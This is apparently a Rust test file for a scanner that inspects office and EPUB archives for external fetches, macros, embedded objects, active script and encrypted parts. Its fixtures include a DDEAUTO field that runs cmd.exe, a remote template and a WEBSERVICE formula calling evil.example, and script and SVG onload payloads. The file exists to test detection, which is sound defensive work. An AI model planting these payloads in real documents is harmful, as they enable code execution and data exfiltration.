//! Documents that are archives: what their parts are, do and hide.

use crate::{LIMITS, code, take};
use lazaret_fixtures::Zip;
use lazaret_sandbox::Members;

#[tokio::test]
async fn a_document_says_what_it_fetches() {
    const DOCX: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    let relations = |kind: &str| {
        format!(
            "<Relationships><Relationship Type=\"x/{kind}\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"
        )
    };
    for (kind, found) in [("attachedTemplate", 1), ("hyperlink", 0)] {
        let docx = Zip::default()
            .deflated("[Content_Types].xml", b"<Types/>")
            .deflated("word/document.xml", b"<w/>")
            .deflated("word/_rels/settings.xml.rels", relations(kind).as_bytes())
            .finish();
        let (members, _) = take(DOCX, &docx, &LIMITS).await.unwrap();
        let codes: Vec<_> = members.summary.findings.iter().map(|f| f.code.as_str()).collect();
        assert_eq!(codes, vec!["structure.external"; found], "{kind}");
    }
}

/// What parts of an office document are called is free: content types, relations and the parts themselves tell what
/// they are.
#[tokio::test]
async fn parts_of_documents_are_judged_by_what_they_are() {
    const RELATIONS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    let types = |more: &str| {
        format!(
            "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"xml\" ContentType=\"application/xml\"/>{more}</Types>"
        )
    };
    let related = |kind: &str, target: &str| {
        format!(
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r\" Type=\"{kind}\" Target=\"{target}\"/></Relationships>"
        )
    };
    let word = |body: &str| {
        format!(
            "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">{body}</w:document>"
        )
    };
    let sheet = |root: &str, body: &str| {
        format!("<{root} xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">{body}</{root}>")
    };
    let field = word("<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\"</w:instrText>");
    let wide: Vec<u8> = field.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let web = sheet(
        "connections",
        "<connection id=\"1\" refreshOnLoad=\"1\"><webPr url=\"http://evil.example/\"/></connection>",
    );
    let service = sheet("worksheet", "<f>_xlfn.WEB<![CDATA[SERVICE]]>(\"http://evil.example/\"&amp;A1)</f>");
    let macros = "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>";
    let over = |kind: &str| types(&format!("<Override PartName=\"/xl/a/s.xml\" ContentType=\"{kind}\"/>"));
    let xlm = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet";
    let cases: Vec<(&str, &str, Vec<u8>, &[&str])> = vec![
        ("a letter", "word/document.xml", word("<w:t>WEBSERVICE( and DDEAUTO</w:t>").into(), &[]),
        ("a picture", "word/media/image1.png", b"\x89PNG and so on".to_vec(), &[]),
        (
            "a table",
            "xl/worksheets/sheet1.xml",
            sheet("worksheet", "<f>SUM(A1:A3)</f><f>MYIMAGE(1)</f>").into(),
            &[],
        ),
        ("a field in a part of another name", "word/document.dat", field.clone().into(), &["external"]),
        ("in two bytes a character, without a mark", "word/document.dat", wide, &["external"]),
        (
            "a field in a part without an extension",
            "word/d",
            [b"\xef\xbb\xbf\n".to_vec(), field.into()].concat(),
            &["external"],
        ),
        ("a query", "xl/connections.xml", web.clone().into(), &["external"]),
        ("a query in a part of another name", "xl/c.bin", web.into(), &["external"]),
        ("a formula that fetches", "xl/s.bin", service.into(), &["external"]),
        ("a macro sheet by its root", "xl/a/s.xml", macros.into(), &["macro"]),
        (
            "a macro sheet by its type",
            "[Content_Types].xml",
            over("application/vnd.ms-excel.macrosheet+xml").into(),
            &["macro"],
        ),
        (
            "macros by their type",
            "[Content_Types].xml",
            over("application/vnd.ms-office.vbaProject").into(),
            &["macro"],
        ),
        (
            "a macro sheet by its relation",
            "xl/_rels/workbook.xml.rels",
            related(xlm, "a/s.xml").into(),
            &["macro"],
        ),
        (
            "macros by their relation",
            "word/_rels/document.xml.rels",
            related("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.dat").into(),
            &["macro"],
        ),
        (
            "an object by its relation",
            "xl/_rels/s.xml.rels",
            related(&format!("{RELATIONS}/oleObject"), "/a").into(),
            &["object"],
        ),
        (
            "a package by its relation",
            "xl/_rels/s.xml.rels",
            related(&format!("{RELATIONS}/package"), "/a").into(),
            &["object"],
        ),
        (
            "a control by its relation",
            "xl/_rels/s.xml.rels",
            related(&format!("{RELATIONS}/control"), "/a").into(),
            &["object"],
        ),
        (
            "a chunk of html",
            "word/_rels/document.xml.rels",
            related(&format!("{RELATIONS}/aFChunk"), "/a").into(),
            &["object"],
        ),
        (
            "a template",
            "word/_rels/settings.xml.rels",
            related(&format!("{RELATIONS}/attachedTemplate"), "a.dotm").into(),
            &["external"],
        ),
        (
            "styles",
            "word/_rels/document.xml.rels",
            related(&format!("{RELATIONS}/styles"), "styles.xml").into(),
            &[],
        ),
    ];
    for (what, name, content, expected) in cases {
        let zip = match name {
            "[Content_Types].xml" => Zip::default().deflated(name, &content),
            _ => {
                Zip::default().deflated("[Content_Types].xml", types("").as_bytes()).deflated(name, &content)
            }
        };
        let zip = zip.stored("word/x.txt", b"x").finish();
        let (Members { summary, .. }, _) = take("application/zip", &zip, &LIMITS).await.unwrap();
        let found: Vec<_> =
            summary.findings.iter().map(|f| f.code.trim_start_matches("structure.")).collect();
        assert_eq!(found, expected, "{what}: {summary:?}");
        assert!(summary.coverage.is_complete(), "{what}");
    }
}

/// What a page of a book is, its list of parts says, and no name.
#[tokio::test]
async fn pages_of_books_are_judged_by_what_they_are() {
    const EPUB: &str = "application/epub+zip";
    let page = |body: &str| {
        format!("<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><body>{body}</body></html>")
    };
    let script = page("<script>alert(1)</script>");
    // Longer than what a type is told from.
    let late = script.replacen("<html", &format!("<!--{}--><html", "x".repeat(9000)), 1);
    let doctype = script.replacen("<html", "<!DOCTYPE html><html", 1);
    let wide: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>";
    let list = "<package xmlns='http://www.idpf.org/2007/opf'><item href='a.xhtml'/></package>";
    let cases: [(&str, Vec<u8>, &[&str]); 9] = [
        ("a.xhtml", page("<p>text</p>").into(), &[]),
        ("package.opf", list.into(), &[]),
        ("a.opf", list.replace("<item", "<script/><item").into(), &["active"]),
        ("a.dat", script.into(), &["active"]),
        ("a.xml", late.into(), &["active"]),
        ("a", doctype.into(), &["active"]),
        ("a.css", wide, &["active"]),
        ("a.png", svg.into(), &["active"]),
        ("a.bin", b"\x4c\x6f\xa7\x94\x93 and so on".to_vec(), &["external"]),
    ];
    for (name, content, expected) in cases {
        let zip = Zip::default().stored("mimetype", EPUB.as_bytes()).deflated(name, &content).finish();
        let (Members { summary, .. }, _) = take(EPUB, &zip, &LIMITS).await.unwrap();
        let found: Vec<_> =
            summary.findings.iter().map(|f| f.code.trim_start_matches("structure.")).collect();
        assert_eq!(found, expected, "{name}: {summary:?}");
    }
}

/// Parts of documents that only who has the key can read: the documents say so themselves (OpenDocument 1.2 part 3, 3.4;
/// EPUB OCF 3.3, 4.2.6.3.1).
#[tokio::test]
async fn encrypted_parts_of_documents_are_told() {
    const ODT: &str = "application/vnd.oasis.opendocument.text";
    const EPUB: &str = "application/epub+zip";
    let manifest = |within: &str| {
        format!(
            "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\"><manifest:file-entry>{within}</manifest:file-entry></manifest:manifest>"
        )
    };
    let locked = manifest("<manifest:encryption-data manifest:checksum=\"x\"/>");
    let fonts = "<encryption xmlns=\"urn:oasis:names:tc:opendocument:xmlns:container\"/>";
    for (media_type, name, content, expected) in [
        (ODT, "META-INF/manifest.xml", manifest(""), ""),
        (ODT, "META-INF/manifest.xml", locked, "encrypted"),
        (EPUB, "META-INF/encryption.xml", fonts.to_owned(), "encrypted"),
        (EPUB, "META-INF/rights.xml", fonts.to_owned(), ""),
    ] {
        let zip = Zip::default().stored("mimetype", media_type.as_bytes()).deflated(name, content.as_bytes());
        let (Members { summary, .. }, _) = take(media_type, &zip.finish(), &LIMITS).await.unwrap();
        let found: Vec<_> =
            summary.findings.iter().map(|f| f.code.trim_start_matches("structure.")).collect();
        let wanted = if expected.is_empty() { vec![] } else { vec![expected] };
        assert_eq!((found, code(&summary.coverage)), (wanted, expected), "{media_type} {name}: {summary:?}");
    }
}
